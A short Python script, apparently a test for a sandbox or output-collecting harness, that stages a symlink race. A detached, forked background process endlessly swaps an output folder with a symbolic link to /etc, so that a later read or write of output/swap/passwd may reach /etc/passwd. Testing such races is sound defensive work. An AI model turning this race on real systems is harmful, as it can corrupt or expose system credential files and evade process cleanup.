"""Swaps a folder for a link to /etc in a loop, from a process that outlives the program."""

import os
from pathlib import Path

Path("output/swap").mkdir()
Path("output/swap/passwd").write_text("mine")
os.symlink("/etc", "output/other")
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename("output/swap", "output/third")
        os.rename("output/other", "output/swap")
        os.rename("output/third", "output/other")
Path("output/good.txt").write_text("good")
for _ in range(200_000):
    pass
